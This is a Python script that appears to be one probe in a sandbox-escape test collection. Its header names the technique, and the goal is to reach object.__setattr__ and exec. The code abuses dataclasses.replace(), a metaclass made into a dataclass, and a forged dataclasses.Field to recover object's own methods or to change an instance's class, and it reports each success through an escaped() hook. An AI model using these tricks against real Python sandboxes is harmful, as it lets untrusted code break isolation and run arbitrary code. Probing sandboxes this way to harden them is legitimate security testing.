# technique: dataclasses.replace() and copies of frozen dataclasses read and set fields that are called as the guest likes; a metaclass is a dataclass, and its classes have object's own methods
# source: reading Python's library
# goal: object.__setattr__ itself, which takes any object and any name
# impact: exec
import copy
import dataclasses


class Named:
    _field_type = None
    init = True

    def __init__(self, name):
        self.name = name


got = {}


class Meta(type):
    def __new__(metacls, *parts, **more):
        got.update(more)
        return type.__new__(metacls, *parts) if parts else None

    def __init__(cls, *parts, **more):
        pass


Meta = dataclasses.dataclass(Meta, init=False, eq=False, repr=False)
Made = Meta('Made', (), {})
for name in ('__setattr__', '__delattr__', '__getattribute__', '__getstate__', '__setstate__', '__dict__', '__weakref__', '__reduce_ex__'):
    Meta.__dataclass_fields__.clear()
    Meta.__dataclass_fields__['x'] = Named(name)
    got.clear()
    try:
        dataclasses.replace(Made)
    except AttributeError:
        continue
    for found in got.values():
        if name in ('__getstate__', '__reduce_ex__', '__setstate__') and found is not None:
            escaped(name)
        try:
            found(copy.copy, 'changed', True)
        except (AttributeError, TypeError, ValueError):
            continue
        escaped(found)


class Other:
    __slots__ = ('b',)


@dataclasses.dataclass(frozen=True, slots=True)
class Frozen:
    a: object


class Field(dataclasses.Field):
    asked = 0

    @property
    def name(self):
        Field.asked += 1
        return 'a' if Field.asked < 2 else '__class__'

    @name.setter
    def name(self, value):
        pass


try:
    field = Field(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, {}, False)
    field._field_type = Frozen.__dataclass_fields__['a']._field_type
    Frozen.__dataclass_fields__['a'] = field
    if type(copy.copy(Frozen(Other))) is not Frozen:
        escaped(Other)
except (AttributeError, TypeError):
    pass
